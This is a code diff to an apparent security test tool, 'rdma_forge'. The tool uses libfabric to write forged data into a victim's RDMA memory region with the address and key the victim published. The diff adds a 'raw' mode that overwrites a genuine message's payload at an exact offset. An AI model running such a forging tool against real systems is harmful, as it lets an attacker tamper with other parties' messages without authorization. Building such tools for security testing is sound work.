@@ -3,6 +3,8 @@
 // victim's registered region, as a rank's write_message would, using only
 // what the victim published in the store (endpoint name, region address and
 // key). Usage: rdma_forge PROVIDER DOMAIN EP_HEX RADDR_HEX KEY_HEX SLOT_OFF HDR_HEX PAYLOAD_HEX
+// With a 9th argument "raw": one plain fi_write (no CQ data) of PAYLOAD_HEX
+// at exactly SLOT_OFF (HDR_HEX ignored), e.g. over a genuine message's payload.
 // Exits 0 when the write completed at the target.
 #include <rdma/fabric.h>
 #include <rdma/fi_cm.h>
@@ -35,15 +37,19 @@ static std::string unhex(const char* s) {
   } while (0)
 
 int main(int argc, char** argv) {
-  if (argc != 9) {
+  if (argc != 9 && !(argc == 10 && std::string(argv[9]) == "raw")) {
     fprintf(stderr, "usage: %s PROVIDER DOMAIN EP_HEX RADDR_HEX KEY_HEX SLOT_OFF HDR_HEX PAYLOAD_HEX\n", argv[0]);
     return 2;
   }
   std::string ep_name = unhex(argv[3]);
   uint64_t raddr = strtoull(argv[4], nullptr, 16), key = strtoull(argv[5], nullptr, 16);
   uint64_t off = strtoull(argv[6], nullptr, 10);
-  std::string buf = unhex(argv[7]);
-  buf.resize(128, '\0');  // kHeaderBytes: the payload follows at kPayloadOff
+  const bool raw = argc == 10;
+  std::string buf;
+  if (!raw) {
+    buf = unhex(argv[7]);
+    buf.resize(128, '\0');  // kHeaderBytes: the payload follows at kPayloadOff
+  }
   buf += unhex(argv[8]);
 
   fi_info* h = fi_allocinfo();
@@ -86,14 +92,17 @@ int main(int argc, char** argv) {
   fi_context2 ctx{};
   auto until = std::chrono::steady_clock::now() + std::chrono::seconds(10);
   ssize_t rc;
-  while ((rc = fi_writedata(ep, buf.data(), buf.size(), desc, off >> 8, dest, raddr + off + 128, key, &ctx)) ==
-         -FI_EAGAIN) {
+  auto post = [&]() {
+    return raw ? fi_write(ep, buf.data(), buf.size(), desc, dest, raddr + off, key, &ctx)
+               : fi_writedata(ep, buf.data(), buf.size(), desc, off >> 8, dest, raddr + off + 128, key, &ctx);
+  };
+  while ((rc = post()) == -FI_EAGAIN) {
     fi_cq_data_entry e;
     fi_cq_read(cq, &e, 1);
     if (std::chrono::steady_clock::now() > until) return 3;
   }
   if (rc) {
-    fprintf(stderr, "fi_writedata: %s\n", fi_strerror(int(-rc)));
+    fprintf(stderr, "%s: %s\n", raw ? "fi_write" : "fi_writedata", fi_strerror(int(-rc)));
     return 2;
   }
   for (;;) {
